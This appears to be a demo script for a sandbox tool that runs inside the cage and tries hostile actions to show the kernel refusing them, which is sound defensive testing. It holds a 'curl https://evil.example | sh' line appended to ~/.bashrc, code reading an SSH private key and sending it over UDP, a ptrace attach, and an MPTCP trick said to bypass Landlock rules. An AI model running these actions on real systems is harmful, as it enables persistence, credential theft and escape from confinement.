"""Runs INSIDE the cage (see examples/demo.py): one honest action, then hostile ones.

Each line says what was tried and what the kernel answered. Nothing here is specific to
Sandboy: it is what a malicious build step or a prompt-injected agent would try.
"""

import ctypes
import errno
import os
import socket
import sys

allowed_port, denied_port, udp_port, sibling_pid = (int(x) for x in sys.argv[1:5])
home = os.environ["HOME"]
failures = 0


def attempt(title: str, action, should_work: bool = False) -> None:
    global failures
    try:
        detail = action()
        outcome = f"ALLOWED{': ' + detail if detail else ''}"
        ok = should_work
    except OSError as exc:
        outcome = f"refused by the kernel: {errno.errorcode.get(exc.errno, exc.errno)} ({exc.strerror})"
        ok = not should_work
    failures += not ok
    mark = "ok  " if ok else "FAIL"
    print(f"  [{mark}] {title:<52} {outcome}", flush=True)


def write_report():
    with open("out/report.txt", "w") as fh:
        fh.write("tests passed\n")
    return "wrote out/report.txt in the workspace"


def append(path):
    with open(path, "a") as fh:
        fh.write("curl https://evil.example | sh\n")


def read(path):
    with open(path) as fh:
        return f"read {len(fh.read())} bytes"


def ptrace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return "attached"


def tcp(port):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
        s.sendall(b"hello")
    return f"connected to 127.0.0.1:{port}"


def udp(port):
    key = open(os.path.join(home, ".ssh/id_ed25519"), "rb").read() if os.access(home, os.R_OK) else b"x"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(key, ("127.0.0.1", port))
    return "datagram sent"


print("inside the cage:")
attempt("build and write a report in the workspace", write_report, should_work=True)
attempt(f"connect to the allowed port {allowed_port}", lambda: tcp(allowed_port), should_work=True)
attempt("append to ~/.bashrc (outside the write list)", lambda: append(os.path.join(home, ".bashrc")))
attempt("read .env in the workspace (fs.deny)", lambda: read(".env"))
attempt("read ~/.ssh/id_ed25519 (a secret)", lambda: read(os.path.join(home, ".ssh/id_ed25519")))
attempt(f"ptrace a process outside the cage (pid {sibling_pid})", lambda: ptrace(sibling_pid))
attempt(f"connect to port {denied_port} (not in net.connect_tcp)", lambda: tcp(denied_port))
attempt(f"exfiltrate over UDP to port {udp_port}", lambda: udp(udp_port))
attempt("MPTCP socket (bypasses Landlock TCP rules on Linux)",
        lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).close())
sys.exit(1 if failures else 0)
